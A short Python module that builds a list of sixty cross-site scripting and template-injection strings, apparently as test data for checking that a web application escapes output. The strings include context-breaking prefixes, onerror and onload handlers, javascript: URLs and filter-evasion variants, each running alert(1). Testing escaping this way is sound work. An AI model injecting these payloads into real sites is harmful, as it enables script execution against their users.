"""Sixty texts that would run as a script wherever one of them was not shown as text."""

from __future__ import annotations

from itertools import product

RUNS = "alert(1)"
BREAKS = ("", '">', "'>", "</option></select>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</svg>")
MARKUP = (
    f"<script>{RUNS}</script>",
    f"<img src=x onerror={RUNS}>",
    f"<svg onload={RUNS}>",
    f"<a href=javascript:{RUNS}>x</a>",
)
OTHERS = (
    f'" onfocus={RUNS} autofocus x="',
    f"' onmouseover={RUNS} x='",
    f"javascript:{RUNS}",
    "{{7*7}}",
    "${7*7}",
    "{%print(7*7)%}",
    f"\\u003cscript\\u003e{RUNS}",
    f"&lt;script&gt;{RUNS}",
    f"<ScRiPt/x>{RUNS}</sCrIpT>",
    f"<<script>{RUNS}//<</script>",
    f"<math><mi xlink:href=data:x,<script>{RUNS}</script>>",
    f"<iframe srcdoc='<script>{RUNS}</script>'>",
    f"<style>@import'javascript:{RUNS}'</style>",
    f"<form action=javascript:{RUNS}><input type=submit>",
    f"<details open ontoggle={RUNS}>",
    f"<body onload={RUNS}>",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUNS}>",
    f"<base href=javascript:{RUNS}//>",
    f"\u2028<script>{RUNS}</script>",
    f"</main><script>{RUNS}</script><main>",
)
PAYLOADS = tuple(start + markup for start, markup in product(BREAKS, MARKUP)) + OTHERS
